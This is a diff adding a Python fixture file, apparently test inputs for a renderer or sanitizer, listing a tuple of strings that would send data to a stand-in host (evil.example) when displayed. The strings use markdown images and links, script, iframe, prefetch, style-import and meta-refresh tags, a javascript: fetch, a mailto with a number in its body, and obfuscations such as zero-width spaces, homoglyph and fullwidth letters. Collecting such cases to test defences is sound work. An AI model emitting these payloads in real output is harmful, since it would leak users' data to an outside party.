@@ -1,0 +1,38 @@
+"""Texts that would carry data away, or bring something foreign, where they are shown."""
+
+from __future__ import annotations
+
+CARRIERS = (
+    "![x](http://evil.example/?q=447911123456)",
+    "![x][1]\n\n[1]: http://evil.example/?q=1",
+    "[open](http://evil.example/?q=1)",
+    "[open](//evil.example/?q=1)",
+    "[open](javascript:fetch('http://evil.example'))",
+    "<http://evil.example/?q=1>",
+    "http://evil.example/?q=1",
+    "www.evil.example/?q=1",
+    "evil.example.com/?q=1",
+    "https:\\\\evil.example/?q=1",
+    "ht\u200btps://evil.ex\u200bample.com",
+    "https://еvil.com/?q=1",
+    "ｈｔｔｐｓ://evil.example/?q=1",
+    "evil[.]com/?q=1",
+    '<img src="http://evil.example/?q=1">',
+    "<img src=//evil.example/x onerror=fetch('//evil.example')>",
+    '<link rel="prefetch" href="http://evil.example">',
+    '<link rel=dns-prefetch href="//evil.example">',
+    '<style>@import "http://evil.example/a.css";</style>',
+    '<div style="background:url(http://evil.example/x)">x</div>',
+    "<script src=http://evil.example/x.js></script>",
+    "<iframe src=http://evil.example></iframe>",
+    '<object data="http://evil.example"></object>',
+    '<form action="http://evil.example"><input autofocus></form>',
+    '<meta http-equiv="refresh" content="0;url=http://evil.example">',
+    "<svg><image href='http://evil.example/x'/></svg>",
+    "<video src=http://evil.example/v poster=http://evil.example/p></video>",
+    '<a ping="http://evil.example" href="/">here</a>',
+    "&lt;img src=http://evil.example&gt;",
+    "data:text/html,<script>location='http://evil.example'</script>",
+    "```html\n<img src=http://evil.example>\n```",
+    "mailto:thief@evil.example?body=447911123456",
+)
